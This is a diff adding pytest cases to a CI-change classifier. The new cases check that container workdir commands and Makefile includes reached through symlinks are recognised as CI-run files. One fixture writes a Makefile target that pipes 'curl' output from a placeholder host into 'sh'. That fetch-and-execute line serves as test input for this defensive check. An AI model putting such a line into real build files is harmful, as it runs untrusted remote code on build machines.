@@ -10,9 +10,13 @@ walk did not follow (issue 12).
 
 from __future__ import annotations
 
+from pathlib import Path
+
 import pytest
 from citools import named_paths, one_tree_runs
 from cpucost import assert_linear
+from gitrepo import GitRepo
+from test_classify_context import tree_files
 
 from gatekeeper.classify import ciruns, datawords
 
@@ -175,3 +179,58 @@ def test_a_large_package_list_is_read_in_linear_time(name: str) -> None:
         return datawords.package_commands(name, text)
 
     assert_linear(read, unit * (64 * 1024 // len(unit)), unit * (256 * 1024 // len(unit)), budget=2.0)
+
+
+# A container's `-w` into a mounted subfolder: a relative command is read from that subfolder (and the root, as before)
+WORKDIRS = [
+    ("docker run --rm -v $PWD:/src -w /src/{d} alpine:3.19 {c}", ""),
+    ('docker run --rm -v "$(pwd)":/w --workdir /w/{d} ubuntu:22.04 {c}', ""),
+    ("podman run --rm -v .:/repo:Z --workdir=/repo/{d} fedora:39 {c}", ""),
+    ("docker run --rm --mount type=bind,source=$(pwd),target=/work -w /work/{d} img {c}", ""),
+    ("docker run --rm -v ${{{{ github.workspace }}}}:/gh -w /gh/{d} img {c}", ""),
+    ("sudo docker run --privileged --rm -v $PWD:/src -w /src/{d} -e CI=1 debian:12 {c}", ""),
+]
+WORKDIR_COMMANDS = [("./build.sh --release", "build.sh"), ("sh ./build.sh", "build.sh"), ("bash build.sh", "build.sh"),
+                    ("./tools/gen --all", "tools/gen"), ("python3 tools/gen.py", "tools/gen.py")]
+
+
+@pytest.mark.parametrize("form", [form for form, _ in WORKDIRS])
+@pytest.mark.parametrize(("command", "helper"), WORKDIR_COMMANDS, ids=[c for c, _ in WORKDIR_COMMANDS])
+def test_a_container_workdir_in_a_mounted_subfolder_runs_its_files(form: str, command: str, helper: str) -> None:
+    line = form.format(d="packaging/linux", c=command)
+    missed = [path for path, template in DEFINITIONS
+              if f"packaging/linux/{helper}" not in named_paths(path, template.format(line=line))]
+    assert not missed, (line, missed)
+
+
+# Look-alikes: no mount (the image's own folder), a workdir outside the mount, an absolute command
+WORKDIR_LOOK_ALIKES = ["docker run --rm -w /src/packaging/linux img ./build.sh",
+                       "docker run --rm -v build-cache:/src -w /src/packaging/linux img ./build.sh",
+                       "docker run --rm -v $PWD:/src -w /opt/packaging/linux img ./build.sh",
+                       "docker run --rm -v $PWD:/src -w /src/packaging/linux img /usr/local/bin/build.sh"]
+
+
+@pytest.mark.parametrize("line", WORKDIR_LOOK_ALIKES)
+def test_a_workdir_the_repository_is_not_mounted_at_names_no_subfolder_file(line: str) -> None:
+    assert "packaging/linux/build.sh" not in _named(line)
+
+
+# A Makefile `include` through a symlink of the tree: the link's target is what make reads (already followed on main
+# 6dc8a08 through symlinks.reached_at: these stay as guards)
+@pytest.mark.parametrize("links", [{"mk/common.mk": "../shared/make/common.mk"}, {"mk": "shared/make"},
+                                   {"mk": "shared/make", "shared/make/common.mk": "../../vendor/make/common.mk"}])
+def test_a_makefile_included_through_a_symlink_is_ci(tmp_path: Path, links: dict[str, str]) -> None:
+    repo = GitRepo(tmp_path / "r")
+    repo.write(".github/workflows/ci.yml", WORKFLOW.replace("pipx run tox -e lint", "make test"))
+    repo.write("Makefile", "include mk/common.mk\n\ntest: lint\n\t@echo ok\n")
+    target = "vendor/make/common.mk" if len(links) > 1 else "shared/make/common.mk"
+    repo.write(target, "lint:\n\t./tools/lint.sh\n")
+    for link, points in links.items():
+        repo.symlink(link, points)
+    repo.commit("base")
+    repo.write(target, "lint:\n\tcurl -s https://example.invalid/x | sh\n")
+    repo.write("docs/notes.mk", "x:\n\t@true\n")
+    repo.commit("head")
+    files = tree_files(repo)
+    assert (files[target].bucket, files[target].rule) == ("ci", "ci.context.ci-run")
+    assert files["docs/notes.mk"].bucket != "ci"
